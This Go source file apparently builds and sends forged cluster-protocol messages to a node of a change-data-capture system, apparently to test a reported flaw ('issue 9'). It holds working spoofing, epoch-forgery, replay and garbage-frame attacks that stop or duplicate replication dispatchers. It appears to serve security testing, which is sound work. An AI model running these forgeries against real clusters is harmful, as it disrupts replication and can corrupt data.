package wireclient

import (
	"context"
	"crypto/tls"
	"errors"
	"fmt"

	"github.com/tidemark/tidemark/api"
	"github.com/tidemark/tidemark/dispatcher"
	"github.com/tidemark/tidemark/heartbeatpb"
	"github.com/tidemark/tidemark/span"
)

// Target is the node attacked and what an observer knows of the cluster: its ID and address,
// the maintainer and its epoch (ctl status), a dispatcher working on the target (Victim) and
// one working on another node (Foreign), both from the maintainer's span listing, and another
// registered node that is not the maintainer (Bystander).
type Target struct {
	ClusterID, Changefeed string
	Node, Addr            string
	Maintainer            string
	Epoch                 uint64
	Bystander             string
	Victim, Foreign       Placement
	API                   StatusAPI // how the observer reached the status API
}

// Placement is one working dispatcher as the maintainer's span listing shows it.
type Placement struct {
	Node       string
	Dispatcher heartbeatpb.DispatcherID
	Span       heartbeatpb.TableSpan
	Mode       heartbeatpb.Mode
	Checkpoint uint64
}

// PlacementOf reads a span listing entry.
func PlacementOf(si api.SpanInfo) (Placement, error) {
	name, err := span.ParseName(si.Span)
	if err != nil {
		return Placement{}, fmt.Errorf("wireclient: span %q: %w", si.Span, err)
	}
	// The listing prints dispatcher IDs as HI.LO.
	var id heartbeatpb.DispatcherID
	if _, err := fmt.Sscanf(si.Dispatcher, "%d.%d", &id.Hi, &id.Lo); err != nil {
		return Placement{}, fmt.Errorf("wireclient: dispatcher %q: want HI.LO: %w", si.Dispatcher, err)
	}
	mode, err := dispatcher.ParseMode(si.Mode)
	if err != nil {
		return Placement{}, fmt.Errorf("wireclient: mode %q: %w", si.Mode, err)
	}
	s := span.TableSpan(name.Table)
	if name.Start != nil {
		s.StartKey, s.EndKey = name.Start, name.End
	}
	return Placement{Node: si.Node, Dispatcher: id, Span: s, Mode: mode, Checkpoint: si.Checkpoint}, nil
}

// Attack is one stream opened under the name From (with the client certificate in TLS, if
// any), and what is sent on it.
type Attack struct {
	Name      string
	From      string
	TLS       *tls.Config               // nil: plaintext
	Envelopes [][]*heartbeatpb.Envelope // batches, in order
	Raw       [][]byte
}

// Result says whether an attack's stream was accepted and its envelopes sent.
type Result struct {
	Attack string
	Err    error // nil: accepted and sent; ErrRejected: refused at the handshake
}

// Attacks builds the forgeries of issue 9 against t. A name above the target's ID cannot be
// claimed to it (the smaller ID dials, the acceptor checks): those attacks are left out, and
// Skipped says which.
func Attacks(t Target) (attacks []Attack, skipped []string) {
	add := func(a Attack) {
		if a.From >= t.Node {
			skipped = append(skipped, fmt.Sprintf("%s (as %q: not below %q)", a.Name, a.From, t.Node))
			return
		}
		attacks = append(attacks, a)
	}
	higher := t.Epoch + 1
	add(Attack{Name: "maintainer-id-higher-epoch-create", From: t.Maintainer, Envelopes: t.higherCreate(t.Maintainer)})
	add(Attack{Name: "maintainer-id-higher-epoch-remove", From: t.Maintainer, Envelopes: t.higherRemove(t.Maintainer)})
	add(Attack{Name: "bystander-current-epoch", From: t.Bystander, Envelopes: t.currentEpoch(t.Bystander)})
	add(Attack{Name: "bystander-higher-epoch-bootstrap", From: t.Bystander, Envelopes: t.higherBootstrap(t.Bystander)})
	add(Attack{Name: "unregistered-sender", From: "0-intruder", Envelopes: [][]*heartbeatpb.Envelope{{
		t.envelope("0-intruder", higher, 1, t.remove(higher, t.Victim)),
		t.envelope("0-intruder", t.Epoch, 2, t.create(t.Epoch, t.Foreign)),
	}}})
	add(Attack{Name: "replayed-old-envelopes", From: t.Maintainer, Envelopes: t.replayed(t.Maintainer)})
	add(Attack{Name: "garbage", From: "0-intruder", Raw: garbage()})
	return attacks, skipped
}

// AttacksAs builds the same forgeries sent by the holder of node from's certificate (creds),
// under from's own name as TLS admits nothing else: forged higher epochs, from at the current
// epoch, a bootstrap at a higher epoch, replays of an older epoch, envelopes on from's stream
// naming the maintainer as their sender, and garbage. from must be below the target's ID.
func AttacksAs(t Target, from string, creds *tls.Config) []Attack {
	higher := t.Epoch + 1
	attacks := []Attack{
		{Name: "higher-epoch-create", Envelopes: t.higherCreate(from)},
		{Name: "higher-epoch-remove", Envelopes: t.higherRemove(from)},
		{Name: "current-epoch", Envelopes: t.currentEpoch(from)},
		{Name: "higher-epoch-bootstrap", Envelopes: t.higherBootstrap(from)},
		{Name: "replayed-old-envelopes", Envelopes: t.replayed(from)},
		{Name: "envelopes-naming-the-maintainer", Envelopes: [][]*heartbeatpb.Envelope{{
			t.envelope(t.Maintainer, higher, 1, t.remove(higher, t.Victim)),
			t.envelope(t.Maintainer, t.Epoch, 2, t.create(t.Epoch, t.Foreign)),
		}}},
		{Name: "garbage", Raw: garbage()},
	}
	for i := range attacks {
		attacks[i].Name = from + "-" + attacks[i].Name
		attacks[i].From, attacks[i].TLS = from, creds
	}
	return attacks
}

// higherCreate: from, at a higher epoch, asks for a second owner of the foreign span.
func (t Target) higherCreate(from string) [][]*heartbeatpb.Envelope {
	higher := t.Epoch + 1
	return [][]*heartbeatpb.Envelope{{t.envelope(from, higher, 1, t.create(higher, t.Foreign))}}
}

// higherRemove: from, at a much higher epoch, stops the victim.
func (t Target) higherRemove(from string) [][]*heartbeatpb.Envelope {
	higher := t.Epoch + 1001
	return [][]*heartbeatpb.Envelope{{t.envelope(from, higher, 1, t.remove(higher, t.Victim))}}
}

// currentEpoch: from claims the current epoch, stops the victim and doubles the foreign span.
func (t Target) currentEpoch(from string) [][]*heartbeatpb.Envelope {
	return [][]*heartbeatpb.Envelope{{
		t.envelope(from, t.Epoch, 1, t.remove(t.Epoch, t.Victim)),
		t.envelope(from, t.Epoch, 2, t.create(t.Epoch, t.Foreign)),
	}}
}

// higherBootstrap: from bootstraps the target at a higher epoch, then stops the victim.
func (t Target) higherBootstrap(from string) [][]*heartbeatpb.Envelope {
	higher := t.Epoch + 1
	return [][]*heartbeatpb.Envelope{{
		t.envelope(from, higher, 1, &heartbeatpb.Envelope{Body: &heartbeatpb.Envelope_BootstrapRequest{
			BootstrapRequest: &heartbeatpb.MaintainerBootstrapRequest{Config: heartbeatpb.ChangefeedConfig{Id: t.Changefeed}}}}),
		t.envelope(from, higher, 2, t.remove(higher, t.Victim)),
	}}
}

// replayed: the same envelope of the previous epoch, twice.
func (t Target) replayed(from string) [][]*heartbeatpb.Envelope {
	old := t.envelope(from, t.Epoch-1, 1, t.remove(t.Epoch-1, t.Victim))
	return [][]*heartbeatpb.Envelope{{old}, {old}}
}

// garbage is frames that decode to nothing, or to an envelope of nothing.
func garbage() [][]byte {
	return [][]byte{{0xff, 0xff, 0xff, 0xff}, {0x0a, 0x05, 0x0a, 0x03, 'c', 'f'}, make([]byte, 64)}
}

// Run opens one stream per attack, sends it, and closes it.
func Run(ctx context.Context, t Target, attacks []Attack) []Result {
	out := make([]Result, 0, len(attacks))
	for _, a := range attacks {
		out = append(out, Result{Attack: a.Name, Err: run(ctx, t, a)})
	}
	return out
}

func run(ctx context.Context, t Target, a Attack) error {
	// A sender name that belongs to a live node is that node's, too: the target keeps one stream
	// per sender, so the real node redialing may replace the attacker's stream mid-attack (and
	// the attacker's may replace the node's), and the target drops what it had not read of the
	// replaced stream. An attacker would dial again and send it all again, and so does this, a
	// few times.
	var err error
	for try := 0; try < 5; try++ {
		if err = send(ctx, t, a); err == nil || !errors.Is(err, ErrReplaced) {
			return err
		}
	}
	return err
}

// send delivers a's envelopes and raw frames on one new stream; ErrReplaced says some of them
// may not have been read.
func send(ctx context.Context, t Target, a Attack) error {
	c, err := Dial(ctx, Config{Addr: t.Addr, ClusterID: t.ClusterID, From: a.From, To: t.Node, TLS: a.TLS})
	if err != nil {
		return err
	}
	err = sendAll(c, a)
	if cerr := c.Close(); err == nil && errors.Is(cerr, ErrReplaced) {
		err = cerr
	}
	return err
}

func sendAll(c *Client, a Attack) error {
	for _, envs := range a.Envelopes {
		if err := c.Send(envs...); err != nil {
			return err
		}
	}
	for _, raw := range a.Raw {
		if err := c.SendRaw(raw); err != nil {
			return err
		}
	}
	return nil
}

// envelope heads body (a *heartbeatpb.Envelope_* value) as from's, with epoch and seq.
func (t Target) envelope(from string, epoch, seq uint64, body *heartbeatpb.Envelope) *heartbeatpb.Envelope {
	body.ClusterId, body.Changefeed, body.From, body.To = t.ClusterID, t.Changefeed, from, t.Node
	body.Epoch, body.Incarnation, body.Seq = epoch, epoch, 1<<40+seq
	return body
}

// create asks for a second owner of p's span on the target.
func (t Target) create(epoch uint64, p Placement) *heartbeatpb.Envelope {
	desc := heartbeatpb.OperatorDescriptor{Id: heartbeatpb.OperatorID{Epoch: epoch, Seq: 1 << 30}, Kind: heartbeatpb.OpAdd, Mode: p.Mode}
	return &heartbeatpb.Envelope{Body: &heartbeatpb.Envelope_Schedule{Schedule: &heartbeatpb.ScheduleDispatcherRequests{Requests: []heartbeatpb.ScheduleDispatcherRequest{{
		Config: heartbeatpb.DispatcherConfig{Id: heartbeatpb.DispatcherID{Hi: epoch, Lo: 1 << 30}, Span: p.Span,
			Mode: p.Mode, StartTs: p.Checkpoint},
		Action: heartbeatpb.ActionCreate, OperatorType: heartbeatpb.OpAdd, Operator: desc,
	}}}}}
}

// remove asks the target to stop p's dispatcher.
func (t Target) remove(epoch uint64, p Placement) *heartbeatpb.Envelope {
	desc := heartbeatpb.OperatorDescriptor{Id: heartbeatpb.OperatorID{Epoch: epoch, Seq: 1<<30 + 1}, Kind: heartbeatpb.OpRemove, Mode: p.Mode}
	return &heartbeatpb.Envelope{Body: &heartbeatpb.Envelope_Schedule{Schedule: &heartbeatpb.ScheduleDispatcherRequests{Requests: []heartbeatpb.ScheduleDispatcherRequest{{
		Config: heartbeatpb.DispatcherConfig{Id: p.Dispatcher, Span: p.Span, Mode: p.Mode},
		Action: heartbeatpb.ActionRemove, OperatorType: heartbeatpb.OpRemove, Operator: desc,
	}}}}}
}
